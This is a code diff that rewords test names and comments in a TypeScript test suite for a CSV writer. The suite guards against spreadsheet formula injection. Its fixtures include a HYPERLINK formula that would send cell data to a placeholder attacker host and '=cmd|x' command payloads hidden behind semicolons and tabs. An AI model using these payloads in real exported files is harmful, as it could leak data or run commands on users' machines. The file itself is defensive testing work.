@@ -18,7 +18,7 @@ async function written(...cells: CsvCell[]): Promise<string> {
 }
 
 describe('a CSV file', () => {
-  it('begins with the mark that tells a spreadsheet its encoding, then the heads', async () => {
+  it('starts with a byte order mark, then the header', async () => {
     const empty = (async function* () {})()
     const head = [
       { head: 'Name, full', cell: () => '' },
@@ -33,7 +33,7 @@ describe('a CSV file', () => {
     )
   })
 
-  it('writes numbers, flags, moments and nothing plainly', async () => {
+  it('writes numbers, booleans, dates, and empty values plainly', async () => {
     const timestamp = new Date('2026-01-15T12:00:00Z')
     expect(await written(-5, true, false, timestamp, null)).toBe('-5,yes,no,2026-01-15T12:00:00.000Z,\r\n')
   })
@@ -52,7 +52,7 @@ describe('a CSV file', () => {
     ['=HYPERLINK("http://evil.example?"&A1)', `"'=HYPERLINK(""http://evil.example?""&A1)"`],
     ['\r=1', `"'\r'=1"`],
     ['a=1', 'a=1'],
-    // Where a semicolon or a tab ends a cell, the quotes around this one mean nothing.
+    // If a semicolon or a tab ends a cell, the quotes around this one have no effect.
     ['Acme;=cmd|x', `"Acme;'=cmd|x"`],
     ['Acme; "=cmd|x"', `"Acme;' ""=cmd|x"""`],
     ['Acme\t=cmd|x', `"Acme\t'=cmd|x"`],
@@ -60,7 +60,7 @@ describe('a CSV file', () => {
     ['Acme, =1; b', '"Acme, =1; b"'],
   ])('keeps a spreadsheet from running %j', async (text, cell) => expect(await written(text)).toBe(`${cell}\r\n`))
 
-  it('is read without a formula by whatever a spreadsheet tells cells apart', async () => {
+  it('has no formula with any separator that a spreadsheet uses', async () => {
     const part = fc.constantFrom(
       '=1',
       '-2',
@@ -88,7 +88,7 @@ describe('a CSV file', () => {
   })
 })
 
-/** What a spreadsheet sees: quotes count at the beginning of a cell. */
+/** The cells as a spreadsheet sees them: quotes count at the start of a cell. */
 function readCells(file: string, separator: string): string[] {
   const cells: string[] = []
   let cell = ''
